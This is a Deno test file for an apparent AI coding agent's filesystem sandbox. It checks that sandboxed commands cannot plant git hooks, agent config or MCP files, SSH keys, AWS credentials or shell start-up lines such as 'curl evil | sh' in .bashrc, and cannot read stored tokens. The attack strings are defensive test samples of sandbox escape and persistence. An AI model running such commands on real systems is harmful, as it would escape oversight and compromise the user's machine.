import assert from "node:assert/strict";
import {
  holdSandboxMounts,
  isWithinPath,
  platform,
  runCommand,
  sandboxArgv,
  SandboxProfileError,
  sandboxProfileProblem,
} from "../../lib/platform/mod.ts";
import { bareWorktree } from "./_git_worktree.ts";
import { resolvePaths, userProtectedPaths } from "../../lib/config/mod.ts";
import { exists, makeBox, NOBODY, policyFor, removeBox, runInSandbox, runtime } from "./_sandbox_box.ts";

// Issue #13 item 5: a sandboxed command planted files that later run unsandboxed. Protected names
// inside writable roots stay read-only, missing ones cannot be created, and nothing is left behind.

const PLANT = [
  "echo '[hooks]' > .git/hooks/pre-commit",
  "echo x >> .git/config",
  "mv .git .git-moved",
  "rm -rf .git",
  "mkdir -p .trellis && echo 'sandbox_mode = \"danger-full-access\"' > .trellis/config.toml",
  "echo '{\"mcpServers\":{}}' > .mcp.json",
  "mkdir -p .claude && echo '{}' > .claude/settings.json",
  "mkdir -p .codex && echo x > .codex/config.toml",
  "mkdir -p .agents/skills/x && echo x > .agents/skills/x/SKILL.md",
  "ln -s /tmp .claude",
].map((attack) => `(${attack}) 2>/dev/null && echo "planted: ${attack.replaceAll('"', "'")}"`);

async function gitWorkspace(ws: string): Promise<void> {
  await platform.fs.mkdir(`${ws}/.git/hooks`);
  await platform.fs.writeTextFile(`${ws}/.git/config`, "[core]\n");
  await platform.fs.writeTextFile(`${ws}/notes.md`, "notes\n");
  await platform.fs.chmod(`${ws}/.git`, 0o777);
  await platform.fs.chmod(`${ws}/.git/hooks`, 0o777);
  await platform.fs.chmod(`${ws}/.git/config`, 0o666);
  await platform.fs.chmod(`${ws}/notes.md`, 0o666);
}

async function names(dir: string): Promise<string[]> {
  return (await platform.fs.readDir(dir)).map((e) => e.name).sort();
}

for (const [who, as] of [["root", undefined], ["an unprivileged user", NOBODY]] as const) {
  Deno.test(`sandboxArgv() keeps protected names read-only and uncreatable in the workspace as ${who}, leaving nothing behind`, async () => {
    const box = await makeBox();
    try {
      await gitWorkspace(box.ws);
      const result = await runInSandbox(
        policyFor(box),
        [...PLANT, "echo ok > notes.md && echo wrote"].join("\n"),
        {
          as: as && [...as],
        },
      );
      assert.equal(result.stdout, "wrote\n");
      assert.deepStrictEqual(await names(box.ws), [".git", "notes.md"]);
      assert.deepStrictEqual(await names(`${box.ws}/.git`), ["config", "hooks"]);
      assert.deepStrictEqual(await names(`${box.ws}/.git/hooks`), []);
      assert.equal(await platform.fs.readTextFile(`${box.ws}/.git/config`), "[core]\n");
    } finally {
      await removeBox(box);
    }
  });
}

Deno.test("sandboxArgv() keeps ~/.trellis read-only when the workspace is $HOME, existing or not", async () => {
  const box = await makeBox();
  try {
    const home = box.ws;
    const policy = policyFor(box, { trellisHome: `${home}/.trellis` });
    const plant =
      "mkdir -p .trellis 2>/dev/null; echo 'sandbox_mode = \"danger-full-access\"' > .trellis/config.toml";
    await runInSandbox(policy, plant);
    assert.deepStrictEqual(await names(home), []);
    await platform.fs.mkdir(`${home}/.trellis`);
    await platform.fs.writeTextFile(`${home}/.trellis/config.toml`, 'model = "gpt-5"\n');
    await runInSandbox(policy, plant);
    assert.equal(await platform.fs.readTextFile(`${home}/.trellis/config.toml`), 'model = "gpt-5"\n');
  } finally {
    await removeBox(box);
  }
});

Deno.test("sandboxArgv() keeps $TRELLIS_HOME read-only and its secrets unreadable wherever it lies in a writable root", async () => {
  const box = await makeBox();
  try {
    const home = `${box.ws}/state/trellis`;
    await platform.fs.mkdir(`${home}/credentials`);
    await platform.fs.mkdir(`${home}/skills/s`);
    await platform.fs.writeTextFile(`${home}/credentials/mcp-docs.json`, '{"tokens":"secret"}');
    await platform.fs.writeTextFile(`${home}/config.toml`, 'env = { TOKEN = "secret" }\n');
    await platform.fs.writeTextFile(`${home}/skills/s/SKILL.md`, "skill\n");
    const result = await runInSandbox(
      policyFor(box, { trellisHome: home }),
      `cat ${home}/credentials/mcp-docs.json ${home}/config.toml ${home}/skills/s/SKILL.md 2>&1
       mv ${box.ws}/state ${box.ws}/moved 2>/dev/null || echo pinned
       (echo x > ${home}/skills/s/SKILL.md) 2>/dev/null || echo read-only`,
    );
    assert.match(
      result.stdout,
      /mcp-docs.json: No such file or directory\n.*config.toml: Permission denied\nskill\npinned\nread-only\n$/,
    );
    assert.doesNotMatch(result.stdout, /secret/);
    assert.equal(await platform.fs.readTextFile(`${home}/credentials/mcp-docs.json`), '{"tokens":"secret"}');
  } finally {
    await removeBox(box);
  }
});

Deno.test("sandboxArgv() keeps a deeper working directory's protected names uncreatable, even by renaming a parent", async () => {
  const box = await makeBox();
  try {
    await platform.fs.mkdir(`${box.ws}/a/b`);
    const result = await runInSandbox(
      policyFor(box, { cwd: `${box.ws}/a/b` }),
      `(mv ${box.ws}/a ${box.ws}/a2 && mkdir -p ${box.ws}/a/b/.trellis && echo x > ${box.ws}/a/b/.trellis/config.toml) 2>/dev/null && echo planted
       (echo '{}' > .mcp.json) 2>/dev/null && echo planted; echo x > made && echo made`,
    );
    assert.equal(result.stdout, "made\n");
    assert.deepStrictEqual([await names(box.ws), await names(`${box.ws}/a/b`)], [["a"], ["made"]]);
  } finally {
    await removeBox(box);
  }
});

// The worktree's git directories lie in a writable root under no protected name, so only the
// `.git`-file rule holds them: these fail when sandbox_protected.ts stops following `gitdir:` (the
// worktree's own directory) or `commondir` (the shared hooks and config).
for (const [who, as] of [["root", undefined], ["an unprivileged user", NOBODY]] as const) {
  Deno.test(`sandboxArgv() keeps a worktree's real git directories read-only when they lie in a writable root, as ${who}`, async () => {
    const box = await makeBox();
    try {
      const { store, bare } = await bareWorktree(box.root, box.ws);
      const result = await runInSandbox(
        policyFor(box, { writableRoots: [box.ws, store] }),
        `(echo x > ${bare}/worktrees/ws/HEAD) 2>/dev/null || echo gitdir held
         (echo 'touch /tmp/pwned' > ${bare}/hooks/pre-commit) 2>/dev/null || echo hooks held
         (echo x >> ${bare}/config) 2>/dev/null || echo config held
         echo x > ${store}/free && echo free; echo x > ${box.ws}/free && echo ws free`,
        { as: as && [...as] },
      );
      assert.equal(result.stdout, "gitdir held\nhooks held\nconfig held\nfree\nws free\n", result.stderr);
      assert.equal(await platform.fs.lstat(`${bare}/hooks/pre-commit`), null);
    } finally {
      await removeBox(box);
    }
  });
}

Deno.test("sandboxArgv() leaves a configured writable root inside a protected directory writable", async () => {
  const box = await makeBox();
  try {
    const data = `${box.ws}/.trellis/plugins/data/p`;
    await platform.fs.mkdir(data);
    const result = await runInSandbox(
      policyFor(box, { writableRoots: [box.ws, data] }),
      `echo x > ${data}/kept && echo data; (echo x > ${box.ws}/.trellis/config.toml) 2>/dev/null || echo held`,
    );
    assert.equal(result.stdout, "data\nheld\n");
  } finally {
    await removeBox(box);
  }
});

Deno.test("sandboxArgv() refuses, naming it, a protected name that is a symbolic link", async () => {
  const box = await makeBox();
  try {
    await platform.fs.mkdir(`${box.ws}/decoy`);
    await platform.fs.symlink("decoy", `${box.ws}/.claude`);
    assert.throws(
      () => sandboxArgv(["true"], policyFor(box), "bwrap"),
      new SandboxProfileError(
        `protected path "${box.ws}/.claude" is a symbolic link, which the sandbox cannot keep read-only`,
      ),
    );
  } finally {
    await removeBox(box);
  }
});

Deno.test("sandboxProfileProblem() names the symbolic link a profile cannot hold, before anything runs; a plain policy has none", async () => {
  // What the shell tool asks about before it runs a command (sandbox unavailable: …): the same
  // refusal as sandboxArgv's, as text; its neighbour, the same box without the link, has no problem.
  const box = await makeBox();
  try {
    assert.equal(sandboxProfileProblem(policyFor(box)), undefined);
    await platform.fs.mkdir(`${box.ws}/decoy`);
    await platform.fs.symlink("decoy", `${box.ws}/.claude`);
    assert.equal(
      sandboxProfileProblem(policyFor(box)),
      `protected path "${box.ws}/.claude" is a symbolic link, which the sandbox cannot keep read-only`,
    );
    assert.equal(sandboxProfileProblem(policyFor(box, { mode: "danger-full-access" })), undefined);
  } finally {
    await removeBox(box);
  }
});

Deno.test("runCommand() keeps a placeholder while another sandbox still uses it and removes it after the last", async () => {
  const box = await makeBox();
  try {
    const status = await runtime();
    const long = sandboxArgv(
      [
        "/bin/sh",
        "-c",
        "while [ ! -e go ]; do sleep 0.05; done; (echo '{}' > .mcp.json) 2>/dev/null && echo planted || echo held",
      ],
      policyFor(box),
      status,
    );
    const first = runCommand(platform, { cmd: long, env: { PATH: "/usr/bin:/bin" }, timeoutMs: 20_000 });
    const second = await runInSandbox(policyFor(box), "true");
    assert.equal(second.code, 0);
    await platform.fs.writeTextFile(`${box.ws}/go`, "");
    assert.equal((await first).stdout, "held\n");
    assert.deepStrictEqual(await names(box.ws), ["go"]);
  } finally {
    await removeBox(box);
  }
});

Deno.test("a placeholder made by a sandbox of another home is held too: a profile built while it stood still runs after that sandbox ends", async () => {
  // Two sessions of one process over one workspace, with homes of their own (so marker directories
  // of their own): the second's profile sees the first's `.git` placeholder standing.
  const box = await makeBox();
  try {
    const status = await runtime();
    const [homeA, homeB] = [`${box.root}/a`, `${box.root}/b`];
    await platform.fs.mkdir(homeA);
    await platform.fs.mkdir(homeB);
    const first = sandboxArgv(["/bin/sh", "-c", "true"], policyFor(box, { trellisHome: homeA }), status);
    const releaseFirst = holdSandboxMounts(first);
    assert.ok(await exists(`${box.ws}/.git`), "the first sandbox's placeholder stands");
    const second = sandboxArgv(
      ["/bin/sh", "-c", "(echo x > .git) 2>/dev/null && echo planted || echo held"],
      policyFor(box, { trellisHome: homeB }),
      status,
    );
    releaseFirst();
    const ran = await runCommand(platform, {
      cmd: second,
      env: { PATH: "/usr/bin:/bin" },
      timeoutMs: 20_000,
    });
    assert.equal(ran.stderr, "");
    assert.equal(ran.stdout, "held\n");
    assert.deepStrictEqual(await names(box.ws), [], "no placeholder is left behind");
  } finally {
    await removeBox(box);
  }
});

Deno.test("a user's own empty protected file is bound as itself and kept, not taken for a placeholder", async () => {
  const box = await makeBox();
  try {
    await platform.fs.writeTextFile(`${box.ws}/.mcp.json`, "");
    const ran = await runInSandbox(
      policyFor(box),
      "(echo x > .mcp.json) 2>/dev/null && echo planted || echo held",
    );
    assert.equal(ran.stdout, "held\n");
    assert.deepStrictEqual(await names(box.ws), [".mcp.json"]);
    assert.equal(await platform.fs.readTextFile(`${box.ws}/.mcp.json`), "");
  } finally {
    await removeBox(box);
  }
});

Deno.test("runCommand() leaves a placeholder another live process holds, and a later sandbox removes it once that process is gone", async () => {
  const box = await makeBox();
  try {
    const home = `${box.root}/home`;
    await platform.fs.mkdir(home);
    const policy = policyFor(box, { trellisHome: home });
    const markers = `${home}/cache/sandbox-mounts`;
    const wait = sandboxArgv(
      ["/bin/sh", "-c", "while [ ! -e go ]; do sleep 0.05; done"],
      policy,
      await runtime(),
    );
    const running = runCommand(platform, { cmd: wait, env: { PATH: "/usr/bin:/bin" }, timeoutMs: 20_000 });
    // While it runs, another Trellis process (pid 1 stands in: always alive) holds .mcp.json too.
    let held = "";
    for (const entry of await platform.fs.readDir(markers)) {
      const path = await platform.fs.readTextFile(`${markers}/${entry.name}/path`);
      if (path === `${box.ws}/.mcp.json`) held = `${markers}/${entry.name}`;
    }
    await platform.fs.writeTextFile(`${held}/1`, "");
    await platform.fs.writeTextFile(`${box.ws}/go`, "");
    await running;
    assert.deepStrictEqual(await names(box.ws), [".mcp.json", "go"]);
    // That process is killed without releasing: its marker stays, naming a pid no longer alive.
    const gone = await runCommand(platform, { cmd: ["/bin/sh", "-c", "echo $$"], env: {} });
    await platform.fs.rename(`${held}/1`, `${held}/${gone.stdout.trim()}`);
    await runInSandbox(policy, "true");
    assert.deepStrictEqual(await names(box.ws), ["go"]);
  } finally {
    await removeBox(box);
  }
});

Deno.test("sandboxArgv() markers of placeholders in directories that are gone are swept, those in use are kept", async () => {
  const box = await makeBox();
  try {
    const home = `${box.root}/home`;
    const stale = `${home}/cache/sandbox-mounts/00000000deadbeef`;
    await platform.fs.mkdir(stale);
    await platform.fs.writeTextFile(`${stale}/path`, `${box.root}/deleted-workspace/.mcp.json`);
    await runInSandbox(policyFor(box, { trellisHome: home }), "true");
    const left = await names(`${home}/cache/sandbox-mounts`);
    assert.equal(left.includes("00000000deadbeef"), false);
    assert.equal(left.length, 6); // .git .trellis .codex .claude .agents .mcp.json of this workspace
    assert.deepStrictEqual(await names(box.ws), []);
  } finally {
    await removeBox(box);
  }
});

// Issue #20 items 2 and 5: protected names were held only at each writable root and on the path
// down to the cwd, and the user-level files not at all. Now every protected name that exists at any
// depth is bound read-only, and so are `~/.claude.json`, `$CODEX_HOME`, `$CLAUDE_CONFIG_DIR`, the
// home directory's credentials and start-up files (a placeholder when missing).

const DEEP_LAYERS = ["sub/.trellis/config.toml", "pkg/a/.mcp.json", "a/b/.claude/settings.json"];

for (const [who, as] of [["root", undefined], ["an unprivileged user", NOBODY]] as const) {
  Deno.test(`sandboxArgv() keeps a layer file at any depth read-only as ${who}; an ordinary file beside it stays writable`, async () => {
    const box = await makeBox();
    try {
      for (const file of DEEP_LAYERS) {
        await platform.fs.mkdir(`${box.ws}/${file.slice(0, file.lastIndexOf("/"))}`);
        await platform.fs.writeTextFile(`${box.ws}/${file}`, "original\n");
      }
      await runCommand(platform, {
        cmd: ["chmod", "-R", "a+rwX", box.ws],
        cwd: box.ws,
        env: {},
        timeoutMs: 5_000,
      });
      const attacks = DEEP_LAYERS.flatMap((file) => {
        const dir = file.slice(0, file.lastIndexOf("/"));
        return [
          `echo planted > ${file}`,
          `rm -rf ${dir}`,
          `mv ${dir} ${dir}.moved`,
          `mv ${dir.split("/")[0]} x.moved`,
        ];
      }).map((attack) => `(${attack}) 2>/dev/null && echo "planted: ${attack}"`);
      const result = await runInSandbox(
        policyFor(box),
        [...attacks, "echo ok > sub/notes.md && echo wrote"].join("\n"),
        { as: as && [...as] },
      );
      assert.equal(result.stdout, "wrote\n");
      for (const file of DEEP_LAYERS) {
        assert.equal(await platform.fs.readTextFile(`${box.ws}/${file}`), "original\n", file);
      }
      assert.equal(await platform.fs.readTextFile(`${box.ws}/sub/notes.md`), "ok\n");
    } finally {
      await removeBox(box);
    }
  });

  Deno.test(`sandboxArgv() with cwd = $HOME keeps ~/.claude.json, ~/.ssh, ~/.bashrc … unwritable as ${who}, leaving nothing behind`, async () => {
    const box = await makeBox();
    try {
      const home = box.ws;
      await platform.fs.writeTextFile(`${home}/.bashrc`, "# mine\n");
      await platform.fs.writeTextFile(`${home}/notes.md`, "notes\n");
      await platform.fs.mkdir(`${home}/.config`);
      await platform.fs.chmod(`${home}/.config`, 0o777);
      await platform.fs.chmod(`${home}/.bashrc`, 0o666);
      await platform.fs.chmod(`${home}/notes.md`, 0o666);
      const paths = resolvePaths(platform.fs, {
        cwd: home,
        env: (n) => ({ HOME: home } as Record<string, string>)[n],
      });
      const policy = policyFor(box, { trellisHome: paths.home, protectedPaths: userProtectedPaths(paths) });
      const attacks = [
        `echo '{"mcpServers":{"x":{"command":"sh"}}}' > .claude.json`,
        "mkdir -p .ssh && echo key >> .ssh/authorized_keys",
        // A generated mutant emptying ".aws" in HOME_PROTECTED_PATHS survived: no sandbox test named it.
        "mkdir -p .aws && echo '[default]' > .aws/credentials",
        "echo 'curl evil | sh' >> .bashrc",
        "mkdir -p .config/fish && echo x > .config/fish/config.fish",
        // With ~/.config missing, .config/fish's placeholder (bound on ~/.config) would cover this too;
        // ~/.config exists here, so .config/git is held by its own entry: a generated mutant dropping
        // it survived before (#26 item 4).
        "mkdir -p .config/git && echo '[core] fsmonitor = x' > .config/git/config",
        "echo '[core] fsmonitor = x' > .gitconfig",
        "mkdir -p .claude && echo '{}' > .claude/settings.json",
      ].map((attack) => `(${attack}) 2>/dev/null && echo "planted: ${attack.replaceAll('"', "'")}"`);
      const result = await runInSandbox(policy, [...attacks, "echo ok > notes.md && echo wrote"].join("\n"), {
        as: as && [...as],
      });
      assert.equal(result.stdout, "wrote\n");
      assert.deepStrictEqual(await names(home), [".bashrc", ".config", "notes.md"]);
      assert.deepStrictEqual(await names(`${home}/.config`), []);
      assert.equal(await platform.fs.readTextFile(`${home}/.bashrc`), "# mine\n");
      assert.equal(await platform.fs.readTextFile(`${home}/notes.md`), "ok\n");
    } finally {
      await removeBox(box);
    }
  });
}

Deno.test("sandboxArgv() keeps $CODEX_HOME and $CLAUDE_CONFIG_DIR read-only when they lie in the workspace; a file beside them stays writable", async () => {
  const box = await makeBox();
  try {
    await platform.fs.mkdir(`${box.ws}/codex`);
    await platform.fs.writeTextFile(`${box.ws}/codex/config.toml`, "# codex\n");
    const env: Record<string, string> = {
      HOME: box.root,
      CODEX_HOME: `${box.ws}/codex`,
      CLAUDE_CONFIG_DIR: `${box.ws}/cc`,
    };
    const paths = resolvePaths(platform.fs, { cwd: box.ws, env: (n) => env[n] });
    const policy = policyFor(box, { protectedPaths: userProtectedPaths(paths) });
    const result = await runInSandbox(
      policy,
      [
        "(echo '[mcp_servers.x]' >> codex/config.toml) 2>/dev/null && echo planted-codex",
        "(mkdir -p cc && echo '{}' > cc/settings.json) 2>/dev/null && echo planted-claude",
        "echo ok > codex-notes.md && echo wrote",
      ].join("\n"),
    );
    assert.equal(result.stdout, "wrote\n");
    assert.equal(await platform.fs.readTextFile(`${box.ws}/codex/config.toml`), "# codex\n");
    assert.deepStrictEqual(await names(box.ws), ["codex", "codex-notes.md"]);
  } finally {
    await removeBox(box);
  }
});

// A generated mutant (`root + "/"` → `root + ""`) survived every sandbox test (#26 item 4): a
// sibling that shares the root's name as a prefix counted as inside it.
Deno.test("isWithinPath() does not take a sibling sharing the root's prefix for a path inside it", () => {
  assert.equal(isWithinPath("/work/ws", "/work/ws2/.git"), false);
  assert.equal(isWithinPath("/work/ws", "/work/wsx"), false);
});

Deno.test("isWithinPath() holds the root itself and what lies below it, and / holds everything", () => {
  assert.equal(isWithinPath("/work/ws", "/work/ws"), true);
  assert.equal(isWithinPath("/work/ws", "/work/ws/sub/.git"), true);
  assert.equal(isWithinPath("/", "/work/ws2"), true);
  assert.equal(isWithinPath("/work/ws/sub", "/work/ws"), false);
});

// #26 item 4, a generated survivor (sandbox_profile.ts boundRoots' mode check): read-only mode
// keeps every root read-only even when the policy still lists writable roots (a session switched
// by `/sandbox read-only` keeps its configured roots); workspace-write, the neighbour, binds them.
Deno.test("sandboxArgv() in read-only mode binds no writable root read-write, though the policy lists them", async () => {
  const box = await makeBox();
  try {
    const script = `(echo x > ${box.ws}/made) 2>/dev/null && echo written || echo held`;
    const readOnly = await runInSandbox(policyFor(box, { mode: "read-only" }), script);
    assert.equal(readOnly.stdout, "held\n", readOnly.stderr);
    assert.equal(await platform.fs.stat(`${box.ws}/made`), null);
    const writable = await runInSandbox(policyFor(box), script);
    assert.equal(writable.stdout, "written\n", writable.stderr);
  } finally {
    await removeBox(box);
  }
});

// #26 item 4, a generated survivor (sandbox_profile.ts maskOptions' `env.PATH`): /run is hidden
// under an empty tmpfs, except a directory the command's PATH names (NixOS's /run/wrappers/bin).
Deno.test("sandboxArgv() keeps a PATH directory under the masked /run visible, and only that one", async () => {
  const box = await makeBox();
  const dir = `/run/trellis-path-test-${crypto.randomUUID().slice(0, 8)}`;
  try {
    await platform.fs.mkdir(`${dir}/bin`);
    await platform.fs.mkdir(`${dir}/other`);
    await platform.fs.writeTextFile(`${dir}/other/x`, "x");
    const script =
      `ls ${dir}/bin >/dev/null 2>&1 && echo bin seen; ls ${dir}/other/x >/dev/null 2>&1 && echo other seen; true`;
    const named = await runInSandbox(policyFor(box, { env: { PATH: `${dir}/bin:/usr/bin:/bin` } }), script);
    assert.equal(named.stdout, "bin seen\n", named.stderr);
  } finally {
    await platform.fs.remove(dir, { recursive: true }).catch(() => {});
    await removeBox(box);
  }
});
